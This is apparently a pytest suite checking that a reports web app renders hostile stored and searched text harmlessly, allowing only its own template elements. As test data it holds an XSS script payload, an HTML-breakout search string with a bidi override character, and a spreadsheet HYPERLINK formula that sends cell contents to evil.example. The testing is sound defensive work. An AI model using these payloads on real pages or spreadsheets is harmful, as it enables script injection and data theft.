"""Hostile report text on every page: shown, and does nothing."""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import pytest

ALLOWED = {
    *(
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "header",
        "footer",
        "main",
        "nav",
        "aside",
        "article",
        "section",
    ),
    *("a", "div", "span", "p", "h1", "h2", "h3", "ul", "ol", "li", "dl", "dt", "dd", "bdi", "br", "code", "strong"),
    *("mark", "blockquote", "details", "summary", "table", "thead", "tbody", "tr", "th", "td"),
    *("form", "label", "input", "select", "option", "optgroup", "button"),
    *("figure", "figcaption", "img", "svg", "image", "rect"),
}
"""Elements of the templates; there is no script, style, frame or object among them."""


class Elements(HTMLParser):
    """Names and attributes of all elements."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text += data


@pytest.fixture(scope="module")
def pages(client, query, report_ids):
    (report_id,) = [key for name, key in report_ids.items() if "script" in name]
    facts = [row[0] for row in query("select indicator_year_id from facts where report_id = ?", report_id)]
    paths = [f"/facts/{fact}" for fact in facts]
    paths += [f"/reports/{report_id}", f"/reports/{report_id}/numerals", "/reports", "/checks?result=", "/"]
    found = {path: client.get(path) for path in paths}
    assert {answer.status_code for answer in found.values()} == {200}
    return {path: answer.text for path, answer in found.items()}


def test_only_the_templates_own_elements_stand_on_a_page(pages):
    for path, text in pages.items():
        elements = Elements(text)
        assert elements.names <= ALLOWED, path
        assert not [name for name in elements.attributes if name.startswith("on") or name == "style"], path


def test_the_hostile_text_is_shown_as_it_stands(pages):
    (text,) = [text for path, text in pages.items() if re.fullmatch(r"/reports/\w{32}", path)]
    assert "<script>document.title='owned'</script>" in Elements(text).text
    assert '=HYPERLINK("http://evil.example/"&A1)&amp;' in Elements(text).text


def test_what_steers_the_reading_direction_is_shown_by_its_code(pages):
    for path, text in pages.items():
        assert not {unicodedata.category(c) for c in text} & {"Cf", "Cs", "Co", "Zl", "Zp"}, path
    (text,) = [text for path, text in pages.items() if re.fullmatch(r"/reports/\w{32}", path)]
    assert {"U+202E", "U+202C", "U+200B", "U+0007"} <= set(re.findall(r">(U\+[0-9A-F]{4})<", text))


def test_what_is_searched_for_is_shown_as_text(client):
    answer = client.get("/", params={"q": '"><script>alert(1)</script>\u202e'})
    assert Elements(answer.text).names <= ALLOWED
    assert "\u202e" not in answer.text
